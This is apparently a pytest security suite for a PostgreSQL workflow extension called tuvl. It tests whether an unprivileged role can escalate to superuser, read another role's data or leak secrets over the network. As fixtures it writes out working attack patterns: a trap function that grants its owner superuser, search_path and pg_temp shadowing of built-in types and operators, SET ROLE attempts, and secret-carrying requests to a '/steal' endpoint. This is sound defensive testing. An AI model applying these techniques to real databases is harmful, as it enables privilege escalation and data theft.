"""The security boundary: a run can do what its principal may do, and nothing more.

Every test is an attack by MALLORY, an ordinary login role that holds only
tuvl_user, against VICTIM (another tuvl_user), the superuser and the
extension owner.  The first tests are the reproductions that worked on 0.1.0;
the rest are further attempts.  Each one asserts that the attack neither
escalated (MALLORY is no superuser, MALLORY's trap functions never ran), nor
leaked (VICTIM's data and secrets stayed where they were), nor reached the
network (the recording servers received nothing).

MALLORY's traps log every call into mal.calls, which anyone may write, so a
trap that ran as any role, the owner included, leaves a row.
"""
import json
import threading

import psycopg2
import psycopg2.errors
import pytest

from conftest import connect, listen_events, listen_notifies, q, q1
from httputil import HTTP_BASE, execute, recording_server, unique
from llmutil import LLM_URL, script, sent

MALLORY = "tuvl_sec_mallory"
VICTIM = "tuvl_sec_victim"
ADMIN = "tuvl_sec_admin"
NOBODY = "tuvl_sec_nobody"
ROLES = [MALLORY, VICTIM, ADMIN, NOBODY]

# Types and functions the internal statements of tuvl use: MALLORY shadows them all.
SHADOWED_TYPES = ["float8", "int4", "int8", "text", "jsonb", "timestamptz", "bool", "interval",
                  "regrole", "oid", "name"]


@pytest.fixture(scope="module")
def sec(db):
    admin = connect("postgres")
    for role in reversed(ROLES):
        q(admin, f"DROP ROLE IF EXISTS {role}")
    for role in (MALLORY, VICTIM):
        q(admin, f"CREATE ROLE {role} LOGIN IN ROLE tuvl_user")
    q(admin, f"CREATE ROLE {ADMIN} LOGIN IN ROLE tuvl_admin")
    q(admin, f"CREATE ROLE {NOBODY} LOGIN")
    conn = connect(db)
    q(conn, f"""
        CREATE SCHEMA mal AUTHORIZATION {MALLORY};
        GRANT USAGE ON SCHEMA mal TO PUBLIC;
        CREATE TABLE mal.calls (trap text, who name, session_who name, superuser boolean,
                                at timestamptz DEFAULT clock_timestamp());
        ALTER TABLE mal.calls OWNER TO {MALLORY};
        GRANT INSERT, SELECT ON mal.calls TO PUBLIC;
        CREATE SCHEMA {VICTIM} AUTHORIZATION {VICTIM};
        CREATE TABLE {VICTIM}.private (secret text);
        CREATE TABLE {VICTIM}.notes (note text);
        ALTER TABLE {VICTIM}.private OWNER TO {VICTIM};
        ALTER TABLE {VICTIM}.notes OWNER TO {VICTIM};
        INSERT INTO {VICTIM}.private VALUES ('victim-only-data');
    """)
    mal = connect(db, user=MALLORY)
    # The trap: log the call, and escalate whenever it runs as a superuser.
    q(mal, f"""
        CREATE FUNCTION mal.trap(tag text) RETURNS boolean LANGUAGE plpgsql AS $$
        DECLARE su boolean := (SELECT rolsuper FROM pg_roles WHERE rolname = current_user);
        BEGIN
            INSERT INTO mal.calls (trap, who, session_who, superuser)
            VALUES (tag, current_user, session_user, su);
            IF su THEN
                EXECUTE 'ALTER ROLE {MALLORY} SUPERUSER';
            END IF;
            RETURN true;
        END $$;
        GRANT EXECUTE ON FUNCTION mal.trap(text) TO PUBLIC;
    """)
    mal.close()
    conn.close()
    yield db
    conn = connect(db)
    q(conn, f"DROP SCHEMA IF EXISTS mal, {VICTIM} CASCADE")
    q(conn, "DELETE FROM tuvl.journal WHERE run_id IN (SELECT id FROM tuvl.runs "
            "WHERE principal_id::text = ANY (%s))", (ROLES,))
    q(conn, "DELETE FROM tuvl.runs WHERE principal_id::text = ANY (%s)", (ROLES,))
    for table in ("workflows", "artifacts", "llms"):
        q(conn, f"DELETE FROM tuvl.{table} WHERE owner::text = ANY (%s)", (ROLES,))
    q(conn, "DELETE FROM tuvl.secret_grants WHERE grantee::text = ANY (%s)", (ROLES,))
    conn.close()
    for role in reversed(ROLES):
        q(admin, f"DROP ROLE IF EXISTS {role}")
    admin.close()


@pytest.fixture
def as_role(sec, conns):
    return lambda role=None: conns(sec, user=role)


def is_superuser(role):
    conn = connect("postgres")
    try:
        return q1(conn, "SELECT rolsuper FROM pg_roles WHERE rolname = %s", (role,))
    finally:
        conn.close()


def trap_calls(conn, tag=None):
    rows = q(conn, "SELECT trap, who, superuser FROM mal.calls ORDER BY at")
    return [r for r in rows if tag is None or r[0].startswith(tag)]


def assert_no_escalation(conn):
    assert not is_superuser(MALLORY), "MALLORY became a superuser"
    # a trap that ran as a superuser means the attack reached the owner
    assert [r for r in trap_calls(conn) if r[2]] == [], trap_calls(conn)


def register(conn, source):
    return q1(conn, "SELECT tuvl.register_workflow(%s)", (source,))


def sqlerror(conn, sql, params=None):
    with pytest.raises(psycopg2.Error) as e:
        q(conn, sql, params)
    d = e.value.diag
    return e.value.pgcode, d.message_primary, d.message_detail or "", d.message_hint or ""


def run_both(conn, name, data=None):
    """The same workflow through tuvl.run() and through the workers."""
    return [execute(conn, name, data or {}, mode) for mode in ("sync", "worker")]


# ---------------------------------------------------------------------------
# Reproduction 1: internal SQL as the owner under the caller's search_path


def plant_temp_types(conn, tag):
    """pg_temp domains over the types tuvl's statements use, each calling the trap."""
    q(conn, f"""CREATE FUNCTION pg_temp.evil(x anyelement) RETURNS boolean LANGUAGE sql
                AS $$ SELECT mal.trap('{tag}') $$""")
    for t in SHADOWED_TYPES:
        q(conn, f"CREATE DOMAIN pg_temp.{t} AS pg_catalog.{t} CHECK (pg_temp.evil(VALUE))")


def test_temp_domains_never_run_as_the_owner(as_role):
    mal, admin = as_role(MALLORY), as_role()
    register(mal, f"""
name: mal_plain
steps:
  - {{ id: one, kind: ModelOp, sql: "SELECT 1 AS x" }}
""")
    plant_temp_types(mal, "temp-domain")
    for sql_mode in ("start", "sync"):
        q(mal, "SET search_path = pg_temp, mal, pg_catalog")
        res = (q1(mal, "SELECT tuvl.run('mal_plain')") if sql_mode == "sync"
               else {"run_id": q1(mal, "SELECT tuvl.start_run('mal_plain')")})
        run_id = res["run_id"]
        assert q1(mal, "SELECT tuvl.wait(%s, '10 s')", (run_id,)) == "completed"
        # registry writes under the same path
        q(mal, "SELECT tuvl.register_artifact('name: mal_art\ntype: prompt\nbody: hi')")
    assert trap_calls(admin, "temp-domain") == []
    assert_no_escalation(admin)


def test_shadowing_functions_and_operators_on_the_search_path_never_run(as_role):
    mal, admin = as_role(MALLORY), as_role()
    functions = {
        "now()": "timestamptz", "clock_timestamp()": "timestamptz",
        "hashtextextended(text, bigint)": "bigint", "pg_advisory_xact_lock(bigint)": "void",
        "jsonb_typeof(jsonb)": "text", "pg_has_role(oid, oid, text)": "boolean",
        "pg_has_role(name, text)": "boolean", "to_regrole(text)": "regrole",
        "jsonb_array_elements(jsonb)": "SETOF jsonb", "jsonb_set(jsonb, text[], jsonb)": "jsonb",
        "jsonb_build_object(text, text, text, jsonb)": "jsonb",
    }
    for sig, ret in functions.items():
        trap = f"SELECT mal.trap('fn {sig.split('(')[0]}')"
        if ret == "void":
            body = trap
        elif ret.startswith("SETOF"):
            body = f"{trap}; SELECT NULL::{ret.split()[1]} WHERE false"
        else:
            body = f"{trap}; SELECT NULL::{ret}"
        q(mal, f"CREATE FUNCTION mal.{sig} RETURNS {ret} LANGUAGE sql AS $${body}$$")
    operators = [("=", "bigint", "bigint"), ("=", "text", "text"), ("=", "integer", "integer"),
                 ("+", "integer", "bigint"), ("||", "jsonb", "jsonb"), ("->", "jsonb", "text"),
                 ("->>", "jsonb", "text"), ("-", "jsonb", "text"), ("=", "jsonb", "jsonb"),
                 ("<", "timestamptz", "timestamptz"), ("=", "regrole", "regrole")]
    for i, (op, left, right) in enumerate(operators):
        q(mal, f"""CREATE FUNCTION mal.op{i}(a {left}, b {right}) RETURNS boolean LANGUAGE sql
                   AS $$ SELECT mal.trap('op {op}') $$""")
        q(mal, f"CREATE OPERATOR mal.{op} (LEFTARG = {left}, RIGHTARG = {right}, FUNCTION = mal.op{i})")
    q(mal, "SET search_path = mal, pg_catalog")
    register(mal, """
name: mal_shadow
steps:
  - { id: one, kind: ModelOp, sql: "SELECT 1 AS x" }
  - { id: two, kind: Human, form: { type: object } }
""")
    res = q1(mal, "SELECT tuvl.run('mal_shadow')")
    assert res["status"] == "waiting_human"
    q(mal, "SELECT tuvl.steer_run(%s, 'go on')", (res["run_id"],))
    q(mal, "SELECT tuvl.submit(%s, '{}')", (res["run_id"],))
    assert q1(mal, "SELECT tuvl.wait(%s, '10 s')", (res["run_id"],)) == "completed"
    run_id = q1(mal, "SELECT tuvl.start_run('mal_shadow')")
    assert q1(mal, "SELECT tuvl.wait(%s, '10 s')", (run_id,)) == "waiting_human"
    q(mal, "SELECT tuvl.abort_run(%s, 'done')", (run_id,))
    q(mal, "SELECT tuvl.pin_run(%s)", (res["run_id"],))
    q(mal, "SELECT tuvl.register_llm(%s)", (f"name: mal_model\nprovider: openai\nbase_url: {LLM_URL}\n"
                                           "model: m\n",))
    q(mal, "SELECT tuvl.transfer('workflow', 'mal_shadow', %s)", (MALLORY,))
    # the traps run only where MALLORY's own SQL resolves to them, never in tuvl's
    assert [r for r in trap_calls(admin) if r[1] != MALLORY] == []
    assert trap_calls(admin, "op") == [] and trap_calls(admin, "fn") == []
    assert_no_escalation(admin)


def test_a_step_cannot_plant_temporary_objects_in_a_workers_session(as_role):
    mal, vic, admin = as_role(MALLORY), as_role(VICTIM), as_role()
    register(mal, """
name: mal_plant
steps:
  - id: fn
    kind: ModelOp
    sql: >-
      CREATE FUNCTION pg_temp.evil(x anyelement) RETURNS boolean LANGUAGE sql
      AS 'SELECT mal.trap(''worker-domain'')'
  - id: dom
    kind: ModelOp
    sql: CREATE DOMAIN pg_temp.float8 AS pg_catalog.float8 CHECK (pg_temp.evil(VALUE))
""")
    register(vic, """
name: vic_plain
steps:
  - { id: one, kind: ModelOp, sql: "SELECT 1 AS x" }
  - { id: two, kind: ModelOp, sql: "SELECT 2 AS y" }
""")
    for _ in range(3):
        res = execute(mal, "mal_plant", {}, "worker")
        assert res["status"] == "failed", res
        assert "a step may not create temporary objects" in res["error"], res
    # every later run of every role journals and completes in those workers
    ids = [q1(vic, "SELECT tuvl.start_run('vic_plain')") for _ in range(20)]
    for run_id in ids:
        assert q1(vic, "SELECT tuvl.wait(%s, '20 s')", (run_id,)) == "completed"
    assert trap_calls(admin, "worker-domain") == []
    assert_no_escalation(admin)


def test_temporary_schema_objects_of_workers_are_checked_in_the_catalog(as_role):
    admin = as_role()
    # pg_temp_N schemas of tuvl workers hold nothing
    rows = q(admin, """
        SELECT c.relname FROM pg_class c JOIN pg_namespace n ON n.oid = c.relnamespace
        WHERE n.nspname LIKE 'pg_temp_%%'
        UNION ALL
        SELECT t.typname FROM pg_type t JOIN pg_namespace n ON n.oid = t.typnamespace
        WHERE n.nspname LIKE 'pg_temp_%%'
        UNION ALL
        SELECT p.proname FROM pg_proc p JOIN pg_namespace n ON n.oid = p.pronamespace
        WHERE n.nspname LIKE 'pg_temp_%%' AND p.proname = 'evil'""")
    assert [r for r in rows if r[0] in ("evil", "float8")] == []


# ---------------------------------------------------------------------------
# Reproduction 2: one role's session state captures another's writes


def test_a_temp_table_of_one_role_never_captures_another_roles_writes(as_role):
    mal, vic, admin = as_role(MALLORY), as_role(VICTIM), as_role()
    register(mal, """
name: mal_notes
steps:
  - { id: make, kind: ModelOp, sql: "CREATE TEMP TABLE notes (note text)" }
""")
    register(vic, """
name: vic_notes
steps:
  - { id: write, kind: ModelOp, sql: "INSERT INTO notes VALUES ('victim wrote this') RETURNING note" }
""")
    register(mal, """
name: mal_read
steps:
  - { id: read, kind: ModelOp, sql: "SELECT note FROM pg_temp.notes" }
""")
    for mode in ("worker", "sync"):
        res = execute(mal, "mal_notes", {}, mode)
        assert res["status"] == "failed"
        assert "cannot create temporary table within security-restricted operation" in res["error"]
        res = execute(vic, "vic_notes", {}, mode)
        assert res["status"] == "completed", res
        res = execute(mal, "mal_read", {}, mode)
        assert res["status"] == "failed" and "victim wrote this" not in json.dumps(res)
    # the victim's rows are in the victim's own table
    assert q1(admin, f"SELECT count(*) FROM {VICTIM}.notes") == 2


def test_cursors_of_one_role_are_never_reachable_from_another_roles_steps(as_role):
    mal, vic, admin = as_role(MALLORY), as_role(VICTIM), as_role()
    q(vic, f"""CREATE FUNCTION {VICTIM}.open_cursor(ctx jsonb) RETURNS jsonb LANGUAGE plpgsql AS $$
               BEGIN
                   EXECUTE 'DECLARE vcur CURSOR FOR SELECT secret FROM {VICTIM}.private';
                   RETURN '{{}}';
               END $$""")
    register(vic, f"""
name: vic_cursor
steps:
  - {{ id: open, kind: Functional, function: {VICTIM}.open_cursor }}
""")
    register(mal, """
name: mal_fetch
steps:
  - { id: fetch, kind: ModelOp, sql: "FETCH ALL FROM vcur" }
""")
    ids = []
    for _ in range(40):
        ids.append(("vic", q1(vic, "SELECT tuvl.start_run('vic_cursor')")))
        ids.append(("mal", q1(mal, "SELECT tuvl.start_run('mal_fetch')")))
    for who, run_id in ids:
        conn = vic if who == "vic" else mal
        q1(conn, "SELECT tuvl.wait(%s, '20 s')", (run_id,))
    for who, run_id in ids:
        status, context = q(admin, "SELECT status, context FROM tuvl.runs WHERE id = %s", (run_id,))[0]
        if who == "mal":
            assert status == "failed" and "victim-only-data" not in json.dumps(context), context


# ---------------------------------------------------------------------------
# Reproduction 3: replay never widens anything


def test_replay_refuses_requests_and_nested_runs(as_role):
    mal, admin = as_role(MALLORY), as_role()
    outside = recording_server("127.0.0.2")
    try:
        register(mal, f"""
name: mal_inner
steps:
  - id: call
    kind: APICall
    http: {{ url: "{outside.base}/steal" }}
""")
        register(mal, """
name: mal_outer
steps:
  - { id: nest, kind: ModelOp, sql: "SELECT tuvl.run('mal_inner') AS inner_result" }
""")
        res = execute(mal, "mal_outer", {}, "worker")
        assert res["status"] == "completed", res
        fixture = q1(mal, "SELECT tuvl.pin_run(%s)", (res["run_id"],))
        code, msg, detail, _ = sqlerror(mal, "SELECT tuvl.replay(%s)", (json.dumps(fixture),))
        assert "tuvl.run() is not allowed while tuvl.replay() executes" in msg + detail
        # a fixture written by hand may name any effect: still nothing is sent
        forged = dict(fixture, workflow="mal_inner", effects=[], status="completed")
        with pytest.raises(psycopg2.Error):
            q(mal, "SELECT tuvl.replay(%s)", (json.dumps(forged),))
        # the allow-list is as it was for everything else in the session
        res = execute(mal, "mal_inner", {}, "sync")
        assert res["status"] == "failed" and "not allowed" in res["error"], res
        assert outside.requests == []
    finally:
        outside.close()


def test_nested_replay_and_mcp_listing_are_refused_while_replaying(as_role):
    mal = as_role(MALLORY)
    register(mal, """
name: mal_plain2
steps:
  - { id: one, kind: ModelOp, sql: "SELECT 1 AS x" }
""")
    plain = execute(mal, "mal_plain2", {}, "sync")
    fixture = q1(mal, "SELECT tuvl.pin_run(%s)", (plain["run_id"],))
    assert q1(mal, "SELECT tuvl.replay(%s) ->> 'status'", (json.dumps(fixture),)) == "completed"
    q(mal, "CREATE TABLE mal.fixture AS SELECT %s::jsonb AS f", (json.dumps(fixture),))
    for sql, what in (("SELECT tuvl.replay(f) AS r FROM mal.fixture", "tuvl.replay()"),
                      ("SELECT tuvl.mcp_list_tools('http://127.0.0.1:9/mcp') AS t",
                       "tuvl.mcp_list_tools()")):
        register(mal, f"name: mal_plain2\nsteps:\n  - id: one\n    kind: ModelOp\n    sql: \"{sql}\"\n")
        code, msg, detail, _ = sqlerror(mal, "SELECT tuvl.replay(%s)", (json.dumps(fixture),))
        assert f"{what} is not allowed while tuvl.replay() executes" in msg + detail, (msg, detail)


# ---------------------------------------------------------------------------
# Reproduction 4: name squatting


def test_a_name_belongs_to_its_first_owner_by_oid(as_role):
    mal, admin = as_role(MALLORY), as_role()
    name = unique("nightly_")
    register(mal, f"name: {name}\nsteps:\n  - {{ id: one, kind: ModelOp, sql: 'SELECT 1 AS x' }}\n")
    code, msg, detail, hint = sqlerror(admin, "SELECT tuvl.register_workflow(%s)", (
        f"name: {name}\nsteps:\n  - {{ id: mine, kind: ModelOp, sql: 'SELECT 2 AS y' }}\n",))
    assert code == "42501" and msg == f'workflow "{name}" belongs to another role'
    assert MALLORY not in msg + detail + hint
    # MALLORY's versions stay MALLORY's: the superuser's run names the owner it runs
    register(mal, f"name: {name}\nsteps:\n  - {{ id: two, kind: ModelOp, sql: 'SELECT 2 AS x' }}\n")
    assert q(admin, "SELECT version, owner::text FROM tuvl.workflows WHERE name = %s ORDER BY 1",
             (name,)) == [(1, MALLORY), (2, MALLORY)]
    # the same for artifacts and model configs
    art = unique("art_")
    q(mal, "SELECT tuvl.register_artifact(%s)", (f"name: {art}\ntype: prompt\nbody: mine",))
    code, msg, _, _ = sqlerror(admin, "SELECT tuvl.register_artifact(%s)",
                               (f"name: {art}\ntype: prompt\nbody: the admin's",))
    assert code == "42501" and msg == f'artifact "{art}" belongs to another role'
    model = unique("m_")
    q(mal, "SELECT tuvl.register_llm(%s)", (f"name: {model}\nprovider: openai\nbase_url: {LLM_URL}\nmodel: x\n",))
    code, msg, _, _ = sqlerror(admin, "SELECT tuvl.register_llm(%s)",
                               (f"name: {model}\nprovider: openai\nbase_url: {LLM_URL}\nmodel: y\n",))
    assert code == "42501" and msg == f'LLM config "{model}" belongs to another role'


def test_transfer_hands_a_name_over_and_cannot_push_one_onto_others(as_role):
    mal, vic, adm = as_role(MALLORY), as_role(VICTIM), as_role(ADMIN)
    name = unique("gift_")
    register(mal, f"name: {name}\nsteps:\n  - {{ id: one, kind: ModelOp, sql: 'SELECT 1 AS x' }}\n")
    # a trojan given to the victim would look like the victim's own
    code, msg, _, _ = sqlerror(mal, "SELECT tuvl.transfer('workflow', %s, %s)", (name, VICTIM))
    assert code == "42501" and msg.startswith("permission denied to hand workflow")
    # nobody takes a name it does not own
    vname = unique("vic_")
    register(vic, f"name: {vname}\nsteps:\n  - {{ id: one, kind: ModelOp, sql: 'SELECT 1 AS x' }}\n")
    code, msg, _, _ = sqlerror(mal, "SELECT tuvl.transfer('workflow', %s, %s)", (vname, MALLORY))
    assert code == "42501" and VICTIM not in msg
    # a tuvl_admin hands names over either way
    q(adm, "SELECT tuvl.transfer('workflow', %s, %s)", (vname, MALLORY))
    register(mal, f"name: {vname}\nsteps:\n  - {{ id: two, kind: ModelOp, sql: 'SELECT 2 AS x' }}\n")
    code, _, _, _ = sqlerror(vic, "SELECT tuvl.register_workflow(%s)", (
        f"name: {vname}\nsteps:\n  - {{ id: three, kind: ModelOp, sql: 'SELECT 3 AS x' }}\n",))
    assert code == "42501"
    code, msg, _, hint = sqlerror(mal, "SELECT tuvl.transfer('table', 'x', %s)", (MALLORY,))
    assert code == "22023" and "'workflow', 'artifact' or 'llm'" in hint


# ---------------------------------------------------------------------------
# Reproduction 5: secrets are granted


def test_a_secret_is_used_only_by_the_runs_of_roles_granted_it(as_role):
    mal, vic, adm, admin = as_role(MALLORY), as_role(VICTIM), as_role(ADMIN), as_role()
    token = "tok-" + unique("")
    q(adm, "SELECT tuvl.set_secret('payments_token', %s)", (token,))
    q(adm, "SELECT tuvl.grant_secret('payments_token', %s)", (VICTIM,))
    rec = recording_server()
    try:
        wf = f"""
steps:
  - id: pay
    kind: APICall
    http: {{ url: "{rec.base}/pay", headers: {{ X-Token: "{{{{ secrets.payments_token }}}}" }} }}
"""
        register(mal, "name: mal_pay" + wf)
        register(vic, "name: vic_pay" + wf)
        for res in run_both(mal, "mal_pay"):
            assert res["status"] == "failed", res
            # the run's error: the message, then its DETAIL and HINT lines
            assert res["error"].splitlines()[0].endswith(
                f'secret "payments_token" is not available to role "{MALLORY}"'), res
        assert rec.requests == []
        for res in run_both(vic, "vic_pay"):
            assert res["status"] == "completed", res
        assert [r["headers"]["x-token"] for r in rec.requests] == [token, token]
        # a revoked grant is gone at the next use
        q(adm, "SELECT tuvl.revoke_secret('payments_token', %s)", (VICTIM,))
        res = execute(vic, "vic_pay", {}, "worker")
        assert res["status"] == "failed" and len(rec.requests) == 2
        # MALLORY can neither manage secrets nor read them
        for sql, args in (("SELECT tuvl.set_secret('payments_token', 'x')", None),
                          ("SELECT tuvl.grant_secret('payments_token', %s)", (MALLORY,)),
                          ("SELECT tuvl.revoke_secret('payments_token', %s)", (VICTIM,)),
                          ("SELECT value FROM tuvl.secrets", None),
                          ("SELECT name FROM tuvl.secrets", None),
                          ("INSERT INTO tuvl.secret_grants (secret, grantee, granted_by) "
                           "VALUES ('payments_token', %s, 'x')", (MALLORY,))):
            code, _, _, _ = sqlerror(mal, sql, args)
            assert code == "42501", sql
        # a tuvl_admin lists names, never values
        assert ("payments_token",) in q(adm, "SELECT name FROM tuvl.secrets")
        code, _, _, _ = sqlerror(adm, "SELECT value FROM tuvl.secrets")
        assert code == "42501"
        # nothing anywhere holds the token
        assert q1(admin, "SELECT count(*) FROM tuvl.events WHERE payload::text LIKE %s",
                  (f"%{token}%",)) == 0
    finally:
        rec.close()


def test_a_model_config_cannot_carry_someone_elses_key_to_another_server(as_role):
    mal, adm = as_role(MALLORY), as_role(ADMIN)
    key = "sk-" + unique("")
    q(adm, "SELECT tuvl.set_secret('llm_key', %s)", (key,))
    rec = recording_server()
    try:
        model = unique("mal_llm_")
        q(mal, "SELECT tuvl.register_llm(%s)",
          (f"name: {model}\nprovider: openai\nbase_url: {rec.base}/v1\nmodel: x\n"
           "api_key_secret: llm_key\n",))
        register(mal, f"""
name: mal_agent
steps:
  - id: ask
    kind: Agent
    mode: completion
    agent: {{ model: {model}, prompt: "hi" }}
""")
        for res in run_both(mal, "mal_agent"):
            assert res["status"] == "failed" and "llm_key" in res["error"], res
        assert rec.requests == []
    finally:
        rec.close()


# ---------------------------------------------------------------------------
# Reproduction 6: credentials on cross-origin redirects


def redirect_workflow(name, target, code=302, method="GET", body=None):
    body_line = f"\n      body: {json.dumps(body)}" if body is not None else ""
    return f"""
name: {name}
steps:
  - id: go
    kind: APICall
    http:
      method: {method}
      url: "{HTTP_BASE}/redirect?code={code}&to={target}"
      headers:
        X-Auth-Token: "{{{{ secrets.redir_token }}}}"
        Private-Token: "t={{{{ secrets.redir_token }}}}"
        Authorization: "Bearer {{{{ secrets.redir_token }}}}"
        Cookie: "session=plain"
        X-Plain: kept{body_line}
"""


def test_no_credentials_follow_a_redirect_to_another_origin(as_role):
    vic, adm = as_role(VICTIM), as_role(ADMIN)
    token = "redir-" + unique("")
    q(adm, "SELECT tuvl.set_secret('redir_token', %s)", (token,))
    q(adm, "SELECT tuvl.grant_secret('redir_token', %s)", (VICTIM,))
    rec = recording_server()
    try:
        register(vic, redirect_workflow("vic_redir", f"{rec.base}/landed"))
        for res in run_both(vic, "vic_redir"):
            assert res["status"] == "completed", res
        assert len(rec.requests) == 2
        for r in rec.requests:
            h = r["headers"]
            assert h.get("x-plain") == "kept"
            for dropped in ("x-auth-token", "private-token", "authorization", "cookie"):
                assert dropped not in h, (dropped, h)
            assert token not in json.dumps(r)
        # a redirect within the origin keeps them
        register(vic, redirect_workflow("vic_redir_same", f"{HTTP_BASE}/json"))
        res = execute(vic, "vic_redir_same", {}, "sync")
        assert res["status"] == "completed", res
        # a 307 would send a body that holds the secret to the other origin: refused
        register(vic, redirect_workflow("vic_redir_307", f"{rec.base}/landed", code=307,
                                        method="POST", body={"token": "{{ secrets.redir_token }}"}))
        for res in run_both(vic, "vic_redir_307"):
            assert res["status"] == "failed" and "redirect refused" in res["error"], res
        assert len(rec.requests) == 2
    finally:
        rec.close()


# ---------------------------------------------------------------------------
# Reproduction 7: identity by OID, and messages that reveal nothing


def test_other_roles_runs_do_not_exist_for_mallory(as_role):
    mal, vic = as_role(MALLORY), as_role(VICTIM)
    register(vic, """
name: vic_wait
steps:
  - { id: ask, kind: Human, form: { type: object } }
""")
    run_id = q1(vic, "SELECT tuvl.start_run('vic_wait')")
    assert q1(vic, "SELECT tuvl.wait(%s, '10 s')", (run_id,)) == "waiting_human"
    attempts = [("SELECT tuvl.pause_run(%s)", ()), ("SELECT tuvl.resume_run(%s)", ()),
                ("SELECT tuvl.abort_run(%s)", ()), ("SELECT tuvl.steer_run(%s, 'x')", ()),
                ("SELECT tuvl.submit(%s, '{}')", ()), ("SELECT tuvl.decide(%s, true)", ()),
                ("SELECT tuvl.wait(%s, '1 s')", ()), ("SELECT tuvl.pin_run(%s)", ())]
    for sql, args in attempts:
        code, msg, detail, hint = sqlerror(mal, sql, (run_id, *args))
        assert (code, msg) == ("42704", f"run {run_id} does not exist"), sql
        assert VICTIM not in msg + detail + hint
    assert q(mal, "SELECT id FROM tuvl.runs WHERE id = %s", (run_id,)) == []
    assert q(mal, "SELECT seq FROM tuvl.events WHERE run_id = %s", (run_id,)) == []
    assert q1(vic, "SELECT status FROM tuvl.runs WHERE id = %s", (run_id,)) == "waiting_human"
    q(vic, "SELECT tuvl.abort_run(%s)", (run_id,))


def test_drop_role_is_refused_while_it_owns_names_or_grants(sec, as_role):
    admin, adm = as_role(), as_role(ADMIN)
    temp_role = "tuvl_sec_dave"
    q(admin, f"DROP ROLE IF EXISTS {temp_role}")
    q(admin, f"CREATE ROLE {temp_role} LOGIN IN ROLE tuvl_user")
    dave = connect(sec, user=temp_role)
    try:
        art = unique("dave_")
        q(dave, "SELECT tuvl.register_artifact(%s)", (f"name: {art}\ntype: prompt\nbody: x",))
        q(adm, "SELECT tuvl.set_secret('dave_key', 'k')")
        q(adm, "SELECT tuvl.grant_secret('dave_key', %s)", (temp_role,))
        code, msg, detail, hint = sqlerror(admin, f"DROP ROLE {temp_role}")
        assert code == "2BP01", msg
        assert detail == "In this database it has 1 artifact, 1 secret grant."
    finally:
        dave.close()
    # as for tables: REASSIGN OWNED hands the names over, DROP OWNED revokes the grants
    q(admin, f"REASSIGN OWNED BY {temp_role} TO {ADMIN}")
    assert q1(admin, "SELECT owner::text FROM tuvl.artifacts WHERE name = %s", (art,)) == ADMIN
    q(admin, f"DROP OWNED BY {temp_role}")
    assert q1(admin, "SELECT count(*) FROM tuvl.secret_grants WHERE secret = 'dave_key'") == 0
    q(admin, f"DROP ROLE {temp_role}")


# ---------------------------------------------------------------------------
# Further attempts


def test_a_role_without_tuvl_user_can_do_nothing(as_role):
    nobody = as_role(NOBODY)
    for sql in ("SELECT tuvl.start_run('vic_plain')", "SELECT tuvl.run('vic_plain')",
                "SELECT tuvl.register_workflow('name: x')", "SELECT count(*) FROM tuvl.runs",
                "SELECT count(*) FROM tuvl.workflows", "SELECT tuvl.mcp_list_tools('http://x')",
                "SELECT tuvl.transfer('workflow', 'x', current_user::regrole)"):
        code, _, _, _ = sqlerror(nobody, sql)
        assert code == "42501", sql
    # what the documentation's first examples need stays open
    assert q1(nobody, "SELECT tuvl.version()")
    assert q1(nobody, "SELECT count(*) FROM tuvl.validate('name: x')") >= 1
    assert q1(nobody, "SELECT tuvl.render('\"{{ a }}\"', '{\"a\": 1}')") == 1


def test_mallory_cannot_write_tuvls_tables(as_role):
    mal = as_role(MALLORY)
    for sql in ("UPDATE tuvl.runs SET principal_id = 'postgres'",
                "INSERT INTO tuvl.journal (run_id, seq, n, events) VALUES (1, 999, 1, '\\x0100')",
                "UPDATE tuvl.journal SET events = '\\x0100'",
                "DELETE FROM tuvl.journal",
                "UPDATE tuvl.workflows SET owner = current_user::regrole",
                "INSERT INTO tuvl.artifacts (name, version, type, definition, source, owner) "
                "VALUES ('x', 1, 'prompt', '{}', 'x', current_user::regrole)",
                "UPDATE tuvl.llms SET definition = '{}'",
                "DELETE FROM tuvl.mcp_tools"):
        code, _, _, _ = sqlerror(mal, sql)
        assert code == "42501", sql
    # the view of the journal takes no writes at all
    for sql in ("INSERT INTO tuvl.events (run_id, seq, type) VALUES (1, 999, 'run_completed')",
                "DELETE FROM tuvl.events"):
        code, message, _, _ = sqlerror(mal, sql)
        assert code in ("42501", "55000") and "events" in message, (sql, code, message)


def test_a_step_cannot_switch_roles_or_keep_session_state(as_role):
    mal, vic, admin = as_role(MALLORY), as_role(VICTIM), as_role()
    q(mal, """CREATE FUNCTION mal.attempts(ctx jsonb) RETURNS jsonb LANGUAGE plpgsql AS $$
        DECLARE res jsonb := '{}'; a text;
        BEGIN
            FOREACH a IN ARRAY ARRAY['SET SESSION AUTHORIZATION postgres', 'SET ROLE postgres',
                                     'RESET ROLE', 'SELECT set_config(''role'', ''postgres'', false)',
                                     'LISTEN tuvl_events', 'PREPARE p AS SELECT 1',
                                     'LOAD ''auto_explain''', 'DISCARD ALL',
                                     'SET tuvl.http_allowed_hosts = ''*''',
                                     'DECLARE held CURSOR WITH HOLD FOR SELECT 1']
            LOOP
                BEGIN
                    EXECUTE a;
                    res := res || jsonb_build_object(a, 'done as ' || current_user);
                EXCEPTION WHEN others THEN
                    res := res || jsonb_build_object(a, 'refused: ' || SQLERRM);
                END;
            END LOOP;
            PERFORM set_config('work_mem', '77kB', false);
            PERFORM set_config('search_path', 'mal', false);
            PERFORM pg_advisory_lock(424242);
            RETURN res || jsonb_build_object('user', current_user);
        END $$""")
    q(vic, f"""CREATE FUNCTION {VICTIM}.settings(ctx jsonb) RETURNS jsonb LANGUAGE sql AS $$
        SELECT jsonb_build_object('work_mem', current_setting('work_mem'),
                                  'search_path', current_setting('search_path'),
                                  'user', current_user) $$""")
    register(mal, "name: mal_attempts\nsteps:\n  - { id: try, kind: Functional, function: mal.attempts }\n")
    register(vic, f"name: vic_settings\nsteps:\n  - {{ id: s, kind: Functional, function: {VICTIM}.settings }}\n")
    for mode in ("worker", "sync"):
        res = execute(mal, "mal_attempts", {}, mode)
        assert res["status"] == "completed", res
        tried = q1(admin, "SELECT context -> 'try_result' FROM tuvl.runs WHERE id = %s",
                   (res["run_id"],))
        assert tried.pop("user") == MALLORY
        assert all(v.startswith("refused") for v in tried.values()), tried
        # in a worker, a session-level advisory lock does not outlive the step
        # (tuvl.run() executes in MALLORY's own session, which keeps it)
        other = as_role()
        assert q1(other, "SELECT pg_try_advisory_lock(424242)") is (mode == "worker")
        q(other, "SELECT pg_advisory_unlock_all()")
        res = execute(vic, "vic_settings", {}, "worker")
        seen = q1(admin, "SELECT context -> 's_result' FROM tuvl.runs WHERE id = %s",
